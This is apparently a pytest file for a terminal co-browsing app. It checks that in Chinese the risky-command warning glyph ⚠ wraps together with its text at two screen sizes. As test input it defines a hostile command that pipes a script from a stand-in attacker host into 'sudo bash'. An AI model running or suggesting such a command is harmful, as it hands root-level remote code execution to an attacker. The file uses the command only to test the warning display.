"""In Chinese the risky-command warning's ⚠ stood alone on a row of the suggestion's toast and
the step card: the words after it are one run without spaces, which the wrap moved down whole."""

from __future__ import annotations

from typing import Any

import pytest

from cobrowse.i18n.language import Language
from tests.speaking import speaking
from tests.tui.test_customer_app import BASH, Agent, _shell_env, agent, paired_app  # noqa: F401 (fixtures)
from tests.waiting import until
from tui.customer_app import CustomerApp

EVIL = "curl -s http://evil.example/fix.sh | sudo bash"


def screen_rows(app: Any) -> list[str]:
    return [strip.text for strip in app.screen._compositor.render_strips()]


@pytest.mark.parametrize("size", [(80, 24), (40, 12)])
async def test_the_glyph_stays_with_its_words(agent: Agent, relay_url: str, size: tuple[int, int]) -> None:  # noqa: F811
    with speaking(Language.ZH):
        code = await agent.create()
        app = CustomerApp(relay_url, code, BASH)
        async with app.run_test(size=size, notifications=True) as pilot:
            await paired_app(pilot, agent)
            await agent.rt.command({"cmd": "suggest", "command": EVIL})
            await until(lambda: any("⚠" in row for row in screen_rows(app)), what="the warning on screen", pilot=pilot)
            await pilot.pause(0.3)
            rows = [row for row in screen_rows(app) if "⚠" in row]
            for row in rows:
                after = row[row.index("⚠") + 1:].strip(" │▌▐┃")
                assert after and "\u4e00" <= after[0] <= "\u9fff", rows
